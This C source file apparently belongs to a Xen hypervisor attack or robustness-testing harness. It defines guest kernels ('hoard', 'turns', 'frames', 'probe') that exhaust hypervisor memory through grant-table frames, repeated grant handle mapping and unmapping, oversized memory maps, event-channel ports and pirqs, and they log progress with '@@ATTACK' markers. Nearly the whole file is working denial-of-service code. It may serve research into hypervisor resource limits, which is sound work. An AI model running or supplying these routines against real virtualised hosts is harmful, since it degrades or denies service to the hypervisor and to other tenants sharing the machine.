/* Guests that make the hypervisor's memory grow: everything up to its limit (`hoard`), handles page by page and by turns
   (`turns`), grant frames and memory maps (`frames`); and one that reports how much it can allocate (`probe`). */
#include "attack.h"

#define MAX_FRAMES 64
#define FIRST_REF 8
#define BATCH 64
#define MAP_ENTRIES 1024
static struct gnt_entry_v1 *grants;
static unsigned nr_frames;
static u16 self;
static long op(int cmd, void *arg, unsigned n) { return HC(grant_table_op, cmd, arg, n); }

/* Allocates the maximum number of shared frames, mapped at the start of the zone. */
static void take_frames(void) {
    static u64 list[MAX_FRAMES];
    struct gnt_query q = {.dom = DOMID_SELF};
    op(GNT_query_size, &q, 1);
    u32 want = q.max_nr_frames < MAX_FRAMES ? q.max_nr_frames : MAX_FRAMES;
    do {
        struct gnt_setup s = {.dom = DOMID_SELF, .nr_frames = want, .frame_list = (ulong)list};
        op(GNT_setup_table, &s, 1);
        if (s.status == 0) nr_frames = want;
    } while (!nr_frames && (want /= 2));
    for (unsigned i = 0; i < nr_frames; i++)
        if (set_pte((void *)zone(i), list[i] << 12 | PTE_P | PTE_W | PTE_U, UVMF_INVLPG)) panic("grant frame %u", i);
    grants = (struct gnt_entry_v1 *)zone(0);
}

static void grant_all(void) {
    u32 frame = (u32)va_mfn(alloc_page());
    self = own_domid();
    for (unsigned ref = FIRST_REF; ref < nr_frames * 512; ref++) grants[ref] = (struct gnt_entry_v1){GTF_permit, self, frame};
}

/* Maps its own grants for devices, which needs no page tables, up to `most` times; returns how many succeeded. */
static u64 take_handles(u64 most) {
    static struct gnt_map maps[BATCH];
    static u64 taken;
    u64 got = 0;
    unsigned refs = nr_frames * 512 - FIRST_REF;
    if (!nr_frames) return 0;
    while (got < most) {
        for (unsigned i = 0; i < BATCH; i++)
            maps[i] = (struct gnt_map){.flags = GNTMAP_device, .ref = FIRST_REF + (u32)((taken + got + i) % refs), .dom = self};
        op(GNT_map, maps, BATCH);
        for (unsigned i = 0; i < BATCH; i++) {
            if (maps[i].status) return taken += got, got;
            got++;
        }
    }
    taken += got;
    return got;
}

/* The handles are the small numbers, all of them in use. */
static void give_handles_back(u64 handles) {
    static struct gnt_unmap list[BATCH];
    u64 frame = grants[FIRST_REF].frame;
    for (u64 h = 0; h < handles + 2 * BATCH; h += BATCH) {
        for (unsigned i = 0; i < BATCH; i++) list[i] = (struct gnt_unmap){.dev_bus_addr = frame << 12, .handle = (u32)(h + i)};
        op(GNT_unmap, list, BATCH);
    }
}

static long set_memory_map(unsigned entries) {
    static struct e820_entry map[MAP_ENTRIES];
    for (unsigned i = 0; i < entries; i++) map[i] = (struct e820_entry){(ulong)i << 20, 1 << 20, 1};
    struct foreign_memory_map m = {.domid = DOMID_SELF, .map = {.nr_entries = entries, .buffer = (ulong)map}};
    return HC(memory_op, XENMEM_set_memory_map, &m);
}

/* Allocates FIFO control blocks and event words, then all ports. */
static unsigned take_ports(void) {
    for (unsigned v = 0; v < vcpu_count(); v++) {
        struct evt_init_control c = {.control_gfn = va_mfn(alloc_page()), .vcpu = v};
        if (HC(event_channel_op, EVT_init_control, &c)) break;
    }
    struct evt_expand_array a;
    do a.array_gfn = va_mfn(alloc_page());
    while (HC(event_channel_op, EVT_expand_array, &a) == 0);
    unsigned ports = 0;
    while (HC(event_channel_op, EVT_bind_ipi, &(struct evt_bind_ipi){.vcpu = 0}) == 0) ports++;
    return ports;
}

static unsigned take_pirqs(void) {
    unsigned n = 0;
    struct get_free_pirq any = {0, 0};
    while (n < 65536 && HC(physdev_op, PHYSDEVOP_get_free_pirq, &any) == 0) n++;
    return n;
}

static void take_areas(void) {
    u8 *page = alloc_page();
    vcpu_infos_register();
    for (unsigned v = 0; v < vcpu_count(); v++) {
        u64 at = (ulong)page + 64 * (v % 32);
        HC(vcpu_op, VCPUOP_register_runstate, v, &at);
        at += 2048;
        HC(vcpu_op, VCPUOP_register_time, v, &at);
    }
}

static void frames_of_version_2(void) {
    static u64 list[MAX_FRAMES];
    struct { u32 version; } set = {2};
    if (op(GNT_set_version, &set, 1)) return;
    struct gnt_setup s = {.dom = DOMID_SELF, .nr_frames = MAX_FRAMES, .frame_list = (ulong)list};
    op(GNT_setup_table, &s, 1);
    struct { u32 nr; u16 dom; int16_t status; u64 list; } status = {8, DOMID_SELF, 0, (ulong)list};
    op(GNT_get_status_frames, &status, 1);
    set.version = 1;
    op(GNT_set_version, &set, 1);
}

static __attribute__((noreturn)) void hoard(void) {
    zone_init();
    frames_of_version_2();
    take_frames();
    grant_all();
    u64 handles = take_handles(~0ull);
    long map = set_memory_map(MAP_ENTRIES);
    take_areas();
    unsigned pirqs = take_pirqs(), ports = take_ports();
    printk("@@ATTACK hoard full: frames %u handles %llu map %ld ports %u pirqs %u\n", nr_frames, handles, map, ports, pirqs);
    for (u64 round = 1;; round++) {
        give_handles_back(handles);
        u64 again = take_handles(handles);
        set_memory_map(round % 2 ? 1 : MAP_ENTRIES);
        if (second_passed()) printk("@@ATTACK hoard round %llu handles %llu\n", round, again);
    }
}

/* turn=N of=M: takes a page of handles in each of its own time slots, so that guests take turns. */
static __attribute__((noreturn)) void turns(void) {
    const char *value;
    u64 turn = 0, of = 2, handles = 0, got;
    if (has_word(si->cmd_line, "turn", &value)) turn = parse_number(value);
    if (has_word(si->cmd_line, "of", &value)) of = parse_number(value);
    zone_init();
    take_frames();
    grant_all();
    do {
        while (system_time() / 1000000 % of != turn) HC(sched_op, SCHEDOP_yield, 0);
        handles += got = take_handles(256);
        if (second_passed()) printk("@@ATTACK turns handles %llu\n", handles);
    } while (got == 256);
    printk("@@ATTACK turns full: frames %u handles %llu\n", nr_frames, handles);
    for (;;) work(100000);
}

static __attribute__((noreturn)) void frames(void) {
    zone_init();
    take_frames();
    long map = set_memory_map(MAP_ENTRIES);
    printk("@@ATTACK frames full: frames %u map %ld\n", nr_frames, map);
    for (u64 round = 1;; round++) {
        set_memory_map(round % 2 ? 1 : MAP_ENTRIES);
        if (second_passed()) printk("@@ATTACK frames round %llu\n", round);
    }
}

static __attribute__((noreturn)) void probe(void) {
    zone_init();
    take_frames();
    grant_all();
    u64 handles = take_handles(~0ull);
    long map = set_memory_map(MAP_ENTRIES);
    printk("@@ATTACK probe full: frames %u handles %llu map %ld\n", nr_frames, handles, map);
    shutdown(SHUTDOWN_poweroff);
}

const struct attack hoard_attacks[] = {{"hoard", hoard}, {"turns", turns}, {"frames", frames}, {"probe", probe}, {0, 0}};
